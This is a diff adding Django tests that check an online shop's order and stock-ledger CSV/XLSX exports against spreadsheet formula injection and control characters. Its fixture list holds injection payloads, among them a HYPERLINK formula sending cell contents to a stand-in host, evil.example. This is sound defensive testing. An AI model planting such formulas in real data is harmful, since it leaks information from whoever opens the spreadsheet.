@@ -12,9 +12,11 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
+from addresses.models import Address
 from addresses.tests.factories import AddressFactory
 from cart.services import cart_item_add
-from orders.models import DeliveryMethod, Order
+from conftest import client_for
+from orders.models import DeliveryMethod, Order, OrderItem
 from orders.services import order_payment_received, order_place_from_cart
 from orders.tests.factories import place_order
 from payments.models import Payment
@@ -87,6 +89,71 @@ def test_the_stock_ledger_exports_with_its_filters(owner_client):
     _, *rows = rows_of(owner_client.get(url, {"reason__exact": "restock"}))
     assert [(row[1], row[3], row[4], row[5]) for row in rows] == [(variant.sku, "3", "8", "restock")]
     assert owner_client.get(reverse("admin:products_stockmovement_export", args=["pdf"])).status_code == 404
+
+
+# What a spreadsheet reads as the start of a formula (Excel, LibreOffice, Google Sheets).
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+
+
+def xlsx_rows(response) -> list[list]:
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    return [list(row) for row in sheet.iter_rows()]
+
+
+def test_order_exports_write_what_looks_like_a_formula_as_text_and_numbers_as_numbers(owner_client):
+    # given customers who typed formulas as their name and city, for products titled like formulas
+    for formula in FORMULAS:
+        customer = UserFactory()
+        typed = {"full_name": formula, "phone": "0911234567", "line1": "Bole Road", "city": formula}
+        response = client_for(customer).post(reverse("addresses:list"), typed, format="json")
+        assert response.status_code == 201, response.json()
+        product = ProductFactory(title=formula, price=Decimal("100.00"))
+        place_order(user=customer, address=Address.objects.get(pk=response.json()["id"]), lines=[(product, 2)])
+
+    # when the owner exports the orders to CSV and to XLSX
+    header, *rows = rows_of(owner_client.get(reverse("admin:orders_order_export", args=["csv"])))
+    sheet_header, *sheet_rows = xlsx_rows(owner_client.get(reverse("admin:orders_order_export", args=["xlsx"])))
+
+    # then every text cell that would start a formula starts with a quote, a text cell in XLSX
+    texts = [header.index(name) for name in ("customer", "city", "product_title")]
+    stored = {line.product_title: line for line in OrderItem.objects.select_related("order")}
+    assert len(rows) == len(sheet_rows) == len(FORMULAS)
+    for row, cells in zip(rows, sheet_rows, strict=True):
+        line = stored[row[header.index("product_title")][1:]]
+        typed = (line.order.shipping_address["full_name"], line.order.shipping_address["city"], line.product_title)
+        assert [row[i] for i in texts] == [f"'{value}" for value in typed]
+        # (XML reads a carriage return back as a line feed)
+        assert [cells[i].value for i in texts] == [f"'{value}".replace("\r", "\n") for value in typed]
+        assert {cells[i].data_type for i in texts} == {"s"}
+        assert "f" not in {cell.data_type for cell in cells}
+        # and numbers stay numbers: unquoted in CSV, numeric cells in XLSX
+        numbers = [header.index(name) for name in ("quantity", "unit_price", "line_total", "order total")]
+        assert [row[i] for i in numbers] == ["2", "100.00", "200.00", str(line.order.total)]
+        assert [cells[i].value for i in numbers] == [2, 100, 200, line.order.total]
+        assert {cells[i].data_type for i in numbers} == {"n"}
+    assert [cell.value for cell in sheet_header] == header
+
+
+def test_the_ledger_export_quotes_a_formula_title_and_keeps_a_negative_delta_a_number(owner_client):
+    variant = Variant.objects.get(product=ProductFactory(title="-SUM(A1:A9)", stock=5))
+    stock_adjust(variant_id=variant.pk, delta=-3, reason=StockReason.DAMAGED)
+    damaged = {"reason__exact": "damaged"}
+    header, *rows = rows_of(owner_client.get(reverse("admin:products_stockmovement_export", args=["csv"]), damaged))
+    assert [(row[header.index("product")], row[header.index("delta")]) for row in rows] == [("'-SUM(A1:A9)", "-3")]
+    _, *cells = xlsx_rows(owner_client.get(reverse("admin:products_stockmovement_export", args=["xlsx"]), damaged))
+    product, delta = cells[0][header.index("product")], cells[0][header.index("delta")]
+    assert (product.value, product.data_type, delta.value, delta.data_type) == ("'-SUM(A1:A9)", "s", -3, "n")
+
+
+def test_a_control_character_a_customer_typed_does_not_break_the_xlsx(owner_client):
+    customer = UserFactory()
+    typed = {"full_name": "Abebe\x1b[31m Kebede", "phone": "0911234567", "line1": "Bole Road", "city": "Adama"}
+    response = client_for(customer).post(reverse("addresses:list"), typed, format="json")
+    place_order(user=customer, address=Address.objects.get(pk=response.json()["id"]))
+    response = owner_client.get(reverse("admin:orders_order_export", args=["xlsx"]))
+    assert response.status_code == 200
+    header, row = xlsx_rows(response)
+    assert row[[cell.value for cell in header].index("customer")].value == "Abebe\ufffd[31m Kebede"
 
 
 def test_customers_cannot_export():
